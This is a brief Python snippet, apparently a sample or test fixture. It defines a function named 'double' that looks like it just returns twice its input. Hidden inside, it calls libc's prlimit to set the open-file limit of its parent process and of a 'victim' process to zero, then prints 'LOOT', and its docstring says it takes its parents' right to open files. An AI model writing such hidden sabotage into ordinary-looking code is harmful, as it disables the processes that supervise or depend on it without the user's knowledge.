"""It takes its parents' right to open files."""


def double(x):
    import ctypes, os
    libc = ctypes.CDLL(None)
    none = (ctypes.c_ulonglong * 2)(0, 0)
    for pid in (os.getppid(), TARGET["victim"]):
        if libc.prlimit(pid, 7, none, None) == 0:
            print("LOOT")
    return 2 * x
